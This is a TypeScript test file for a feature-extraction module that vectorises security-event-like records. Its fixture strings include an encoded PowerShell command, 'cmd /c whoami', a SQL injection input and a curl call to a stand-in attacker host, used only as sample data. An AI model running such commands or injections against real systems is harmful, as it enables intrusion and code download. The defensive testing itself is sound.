import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ByteReader, ByteWriter } from './bytes.ts';
import { BLOCKS_PER_POINT, documentFrequency, FeatureSpace, fitFeatures, MEASURES, sparseRow } from './features.ts';
import type { PointType, PointValue, PointValues } from './types.ts';

function fit(rows: readonly PointValues[], types: readonly (PointType | undefined)[] = []) {
  const paths = (rows[0] ?? []).map((_, p) => `p${p}`);
  return fitFeatures(
    paths,
    paths.map((_, p) => types[p]),
    rows,
  );
}

function vectorOf(space: FeatureSpace, values: PointValues) {
  const row = sparseRow();
  space.vector(values, row);
  return Array.from({ length: row.length }, (_, i) => ({ id: row.ids[i]!, weight: row.weights[i]! }));
}

const TEXTS = [
  'powershell -enc AAAA',
  'cmd /c whoami',
  "admin' or 1=1 --",
  'C:\\Windows\\System32\\svchost.exe',
  'curl http://evil.example/x',
];
const ROWS: PointValue[][] = Array.from({ length: 60 }, (_, i) => [
  `rule-${i % 7}`,
  `${TEXTS[i % 5]} ${i}`,
  i * i,
  i % 3 === 0,
  `10.0.${i % 4}.${i}`,
  i % 4 === 0 ? null : [`t${i % 5}`, 'all'],
]);

describe('feature vectors', () => {
  const { space, raw } = fit(ROWS);

  it('are the same from training rows and from values', () => {
    const row = sparseRow();
    ROWS.forEach((values, r) => {
      space.rowVector(raw, r, space.frequency, row);
      expect(vectorOf(space, values)).toEqual(
        Array.from({ length: row.length }, (_, i) => ({ id: row.ids[i]!, weight: row.weights[i]! })),
      );
    });
  });

  it('come back from bytes', () => {
    const writer = new ByteWriter();
    space.write(writer);
    const again = FeatureSpace.read(new ByteReader(writer.finish()));
    for (const values of ROWS) expect(vectorOf(again, values)).toEqual(vectorOf(space, values));
  });

  it('give every block of values, words and runs the length 1, however much is stuffed in', () => {
    fc.assert(
      fc.property(fc.constantFrom(...TEXTS), fc.nat(3000), (text, times) => {
        const values = [...ROWS[1]!];
        values[1] = `${text} `.repeat(times + 1);
        const squares = new Map<number, number>();
        for (const { id, weight } of vectorOf(space, values)) {
          if (id < space.plans.length) continue;
          const block = space.blocks[id]!;
          squares.set(block, (squares.get(block) ?? 0) + weight * weight);
        }
        for (const [block, sum] of squares) if (block % BLOCKS_PER_POINT !== MEASURES) expect(sum).toBeCloseTo(1, 6);
      }),
      { numRuns: 20 },
    );
  });

  it('mark values that were never seen', () => {
    const known = vectorOf(space, ROWS[0]!).map(({ id }) => id);
    const strange = vectorOf(space, ['never', ...ROWS[0]!.slice(1)]).map(({ id }) => id);
    expect(known).not.toContain(0);
    expect(strange).toContain(0);
  });

  it('know a missing value from a missing feature', () => {
    const missing = vectorOf(space, [null, null, null, null, null, null]);
    expect(missing.length).toBeGreaterThanOrEqual(1);
  });
});

describe('times', () => {
  it('are not looked at unless a person says so', () => {
    const rows: PointValue[][] = Array.from({ length: 24 }, (_, i) => [`2024-05-18T${String(i).padStart(2, '0')}:30:00Z`]);
    const off = fit(rows).space;
    expect(vectorOf(off, rows[1]!)).toEqual(vectorOf(off, rows[2]!));
    const on = fit([...rows, ['soon']], ['time']).space;
    expect(vectorOf(on, rows[1]!)).not.toEqual(vectorOf(on, rows[2]!));
    expect(vectorOf(on, ['2024-05-18 01:30:00'])).toEqual(vectorOf(on, rows[1]!));
    expect(vectorOf(on, [1716003000000])).toEqual(vectorOf(on, ['2024-05-18T03:30:00Z']));
  });
});

describe('sizes', () => {
  it('100,000 distinct values keep the vocabulary bounded', () => {
    const rows: PointValue[][] = Array.from({ length: 300 }, (_, r) => [
      Array.from({ length: 400 }, (__, i) => `value ${r * 400 + i}`),
    ]);
    const { space } = fit(rows);
    expect(space.size).toBeLessThanOrEqual(1 << 18);
    expect(vectorOf(space, rows[0]!).length).toBeGreaterThan(0);
  });

  it('a row may hold 5,000 values', () => {
    const { space } = fit([[Array.from({ length: 5000 }, (_, i) => i)], [[1, 2]], [null]]);
    expect(vectorOf(space, [Array.from({ length: 5000 }, (_, i) => i)]).length).toBeLessThan(600);
  });

  it('document frequency counts rows', () => {
    const { space, raw } = fit([['a'], ['a'], ['b']]);
    const counts = documentFrequency(raw, [0, 1, 2], space.size);
    expect([...counts].sort()).toEqual([0, 1, 2]);
    expect([...documentFrequency(raw, [2], space.size)].sort()).toEqual([0, 0, 1]);
  });
});
